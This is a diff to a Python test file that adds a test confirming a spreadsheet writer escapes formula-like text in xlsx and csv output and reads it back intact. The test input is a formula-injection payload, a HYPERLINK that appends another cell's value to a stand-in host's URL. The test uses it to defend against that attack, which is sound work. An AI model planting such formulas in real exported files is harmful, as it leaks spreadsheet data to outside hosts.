@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime
+import io
 import unicodedata
 
 import pytest
@@ -73,4 +74,21 @@ def test_it_reads_back_what_it_writes(fmt: str) -> None:
 
     assert read_table(data).rows == [
         (2, ["stp", "2025", datetime.date(2025, 3, 1) if fmt == "xlsx" else "01/03/2025"])
+    ]
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_text_that_looks_like_a_formula_is_written_as_text_and_read_back(fmt: str) -> None:
+    evil = '=HYPERLINK("http://example.invalid/?"&A2,"Bấm vào đây")'
+    data = write_table(["Mã", "Tên"], [["x1", evil], ["x2", "-Sở lạ"]], fmt)
+    if fmt == "xlsx":
+        from openpyxl import load_workbook
+
+        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+        assert sheet["B2"].data_type == "s"  # Excel shows the text, never runs it
+    else:
+        assert b"'=HYPERLINK" in data and b"'-S" in data
+    assert [cells for _line, cells in read_table(data, f"a.{fmt}").rows] == [
+        ["x1", evil],
+        ["x2", "-Sở lạ"],
     ]
